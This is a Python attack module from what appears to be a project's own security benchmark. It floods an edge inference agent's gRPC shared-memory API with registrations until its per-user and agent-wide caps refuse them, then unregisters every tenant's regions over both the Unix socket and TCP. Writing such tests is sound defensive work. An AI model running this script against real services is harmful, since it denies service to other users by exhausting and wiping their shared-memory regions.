"""Shared memory as a confused deputy (issue 27): fill the region slots, unregister everyone's.

Over the Unix socket (``target.uds``) the attacker creates /dev/shm objects of its own and
registers them under fresh names until refused (the per-user cap, then the agent-wide one),
asks for every region's status, and unregisters all regions; over TCP it tries the same and
must be refused (system shared memory is off there unless configured). Counted:
``registered``, ``refused_cap``, ``refused_tcp``, ``other_refusals``, ``status``,
``unregister_all``, ``errors``. Every object it created is unlinked and its regions
unregistered before it returns.
"""

from __future__ import annotations

import contextlib
import os
import threading
import uuid

import grpc

from benchmarks.attacks import Tally, Target, channel
from edge_agent.frontends.grpc.generated import grpc_service_pb2 as pb
from edge_agent.frontends.grpc.generated import grpc_service_pb2_grpc as pb_grpc

OBJECTS = 80  # more than the agent-wide 64 regions
OBJECT_BYTES = 4096
TIMEOUT_S = 10.0


def _objects(tag: str) -> list[str]:
    """OBJECTS fresh /dev/shm objects of this process's user (0600); their keys."""
    keys = []
    for i in range(OBJECTS):
        name = f"{tag}_{i}"
        fd = os.open(f"/dev/shm/{name}", os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600)
        try:
            os.ftruncate(fd, OBJECT_BYTES)
        finally:
            os.close(fd)
        keys.append(f"/{name}")
    return keys


def _round(stub: pb_grpc.GRPCInferenceServiceStub, keys: list[str], tally: Tally,
           refused_key: str) -> None:
    """Register every key under a fresh name, read the status, unregister all."""
    for key in keys:
        try:
            stub.SystemSharedMemoryRegister(pb.SystemSharedMemoryRegisterRequest(
                name=f"atk_{uuid.uuid4().hex[:8]}", key=key, byte_size=OBJECT_BYTES),
                timeout=TIMEOUT_S)
            tally.add("registered")
        except grpc.RpcError as exc:
            code = exc.code()
            if code is grpc.StatusCode.RESOURCE_EXHAUSTED:
                tally.add("refused_cap")
            elif code is grpc.StatusCode.FAILED_PRECONDITION:
                tally.add(refused_key)
                return  # the whole transport is refused
            elif code in (grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.ALREADY_EXISTS):
                tally.add("other_refusals")
            else:
                tally.add("errors")
    calls = (("status", lambda: stub.SystemSharedMemoryStatus(
                 pb.SystemSharedMemoryStatusRequest(), timeout=TIMEOUT_S)),
             ("unregister_all", lambda: stub.SystemSharedMemoryUnregister(
                 pb.SystemSharedMemoryUnregisterRequest(name=""), timeout=TIMEOUT_S)))
    for done, call in calls:
        try:
            call()
            tally.add(done)
        except grpc.RpcError as exc:
            tally.add(refused_key if exc.code() is grpc.StatusCode.FAILED_PRECONDITION
                      else "errors")


def attack(target: Target, stop: threading.Event, tally: Tally) -> None:
    """Fill the region slots and unregister all, over the socket and over TCP, until ``stop``."""
    tag = f"edge_atk_{os.getpid()}_{uuid.uuid4().hex[:6]}"
    keys = _objects(tag)
    channels = [(channel(target.grpc), "refused_tcp")]
    if target.uds is not None:
        channels.append((channel(f"unix:{target.uds}"), "refused_uds"))
    try:
        stubs = [(pb_grpc.GRPCInferenceServiceStub(ch), key) for ch, key in channels]
        while not stop.is_set():
            for stub, refused_key in stubs:
                _round(stub, keys, tally, refused_key)
            stop.wait(0.05)
    finally:
        if target.uds is not None:  # leave no region of ours behind
            try:
                pb_grpc.GRPCInferenceServiceStub(channels[-1][0]).SystemSharedMemoryUnregister(
                    pb.SystemSharedMemoryUnregisterRequest(name=""), timeout=TIMEOUT_S)
            except grpc.RpcError:
                tally.add("errors")
        for ch, _ in channels:
            ch.close()
        for key in keys:
            with contextlib.suppress(FileNotFoundError):
                os.unlink(f"/dev/shm{key}")
